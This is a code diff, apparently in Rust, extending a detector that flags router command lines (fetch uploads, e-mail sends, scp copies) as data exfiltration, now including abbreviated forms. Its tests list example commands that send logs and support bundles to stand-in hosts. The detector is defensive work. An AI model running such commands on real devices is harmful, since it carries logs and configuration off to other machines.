@@ -191,8 +191,13 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let saves =
         first.len() > 1 && ["save", "write"].iter().any(|full| full.starts_with(first)) && words.iter().skip(1).any(|word| is_remote(word));
     let mut steps = words.iter().flat_map(|word| word.split('/'));
-    let mails = steps.any(|step| step == "e-mail") && steps.any(|step| step.len() > 2 && "send".starts_with(step));
-    let sends = |word: &String| matches!(word.as_str(), "upload=yes" | "upload" | "upload-file") || word.starts_with("http-data=");
+    // Menus and names of arguments may be shortened: `/tool e-m send`, `upl=y`.
+    let begins = |word: &str, full: &str, least: usize| word.len() >= least && full.starts_with(word);
+    let mails = steps.any(|step| begins(step, "e-mail", 2)) && steps.any(|step| begins(step, "send", 3));
+    let gives = |(name, value): (&str, &str)| {
+        begins(name, "upload", 2) && value.trim_start_matches('"').starts_with('y') || begins(name, "http-data", 6)
+    };
+    let sends = |word: &String| matches!(word.as_str(), "upload" | "upload-file") || word.split_once('=').is_some_and(gives);
     let uploads = mails || words.iter().any(sends);
     if goes || saves || uploads {
         return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
@@ -290,7 +295,12 @@ mod tests {
             ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
             ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
             ("/tool fetch url=https://h/ http-method=post http-data=x", Some(EXFILTRATION)),
+            ("/tool fetch url=ftp://h/x src-path=a upl=y", Some(EXFILTRATION)),
+            ("/tool fetch url=ftp://h/x upload=no", None),
+            ("/tool fetch url=https://h/ http-method=post http-d=x", Some(EXFILTRATION)),
+            ("/tool fetch url=https://h/ http-method=get", None),
             ("/tool e-mail send to=x file=y", Some(EXFILTRATION)),
+            ("/tool e-m send to=x", Some(EXFILTRATION)),
             ("/tool/e-mail/send to=x", Some(EXFILTRATION)),
             ("/tool e-mail print", None),
             ("copy supportbundle://x scp://u@192.0.2.1/x", Some(EXFILTRATION)),
